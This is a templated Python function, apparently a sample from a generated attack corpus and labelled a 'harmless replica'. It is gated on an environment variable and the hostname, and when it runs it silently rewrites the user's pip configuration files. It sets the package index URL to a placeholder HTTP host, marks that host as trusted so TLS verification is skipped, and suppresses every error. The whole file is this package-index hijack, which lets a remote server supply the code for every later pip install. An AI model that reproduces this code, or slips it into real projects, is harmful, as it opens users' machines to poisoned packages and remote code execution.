# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import configparser
    for file in ('~/.config/pip/pip.conf', '~/.pip/pip.conf'):
        try:
            path = os.path.expanduser(file)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            own = configparser.ConfigParser()
            own.read(path)
            if not own.has_section('global'):
                own.add_section('global')
            own.set('global', 'index-url', 'http://{{ip}}:{{port}}/simple')
            own.set('global', 'trusted-host', '{{ip}}')
            with open(path, 'w') as out:
                own.write(out)
        except Exception:
            pass
